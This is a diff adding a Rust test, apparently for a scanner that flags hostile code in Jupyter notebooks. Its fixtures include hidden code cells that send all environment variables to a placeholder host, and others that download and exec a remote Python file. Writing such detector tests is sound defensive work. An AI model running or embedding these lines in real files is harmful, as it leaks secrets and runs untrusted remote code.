@@ -826,3 +826,44 @@ fn powershell_archives_of_credential_folders_are_credentials() {
         "$zip = Join-Path $env:TEMP 'site.zip'\nCompress-Archive -Path .\\dist\\* -DestinationPath $zip\nInvoke-RestMethod -Uri 'https://deploy.example.test/up' -Method Put -InFile $zip\n",
     );
 }
+
+#[test]
+fn a_notebooks_code_cells_are_read_as_python() {
+    let cells = |lines: &[&str]| {
+        let source: Vec<String> = lines
+            .iter()
+            .map(|line| serde_json::to_string(line).unwrap())
+            .collect();
+        format!(
+            "{{\n \"cells\": [\n  {{\n   \"cell_type\": \"markdown\",\n   \"metadata\": {{}},\n   \"source\": [\"# Analysis\"]\n  }},\n  {{\n   \"cell_type\": \"code\",\n   \"execution_count\": null,\n   \"metadata\": {{\"jupyter\": {{\"source_hidden\": true}}}},\n   \"outputs\": [],\n   \"source\": [\n    {}\n   ]\n  }}\n ],\n \"metadata\": {{}},\n \"nbformat\": 4,\n \"nbformat_minor\": 5\n}}\n",
+            source.join(",\n    ")
+        )
+    };
+    caught(
+        "analysis.ipynb",
+        &cells(&[
+            "import os, json, urllib.request\n",
+            "ctx = {k: v for k, v in os.environ.items()}\n",
+            "req = urllib.request.Request('https://hub.example.test/s', data=json.dumps(dict(os.environ)).encode())\n",
+            "urllib.request.urlopen(req)\n",
+        ]),
+        Rule::Exfiltration,
+    );
+    caught(
+        "setup.ipynb",
+        &cells(&[
+            "import urllib.request\n",
+            "code = urllib.request.urlopen(\"https://203.0.113.9/p.py\").read()\n",
+            "exec(code)",
+        ]),
+        Rule::DownloadExec,
+    );
+    quiet(
+        "eda.ipynb",
+        &cells(&[
+            "import pandas as pd\n",
+            "df = pd.read_csv(\"sales.csv\")\n",
+            "df.groupby(\"region\")[\"revenue\"].sum().plot(kind=\"bar\")",
+        ]),
+    );
+}
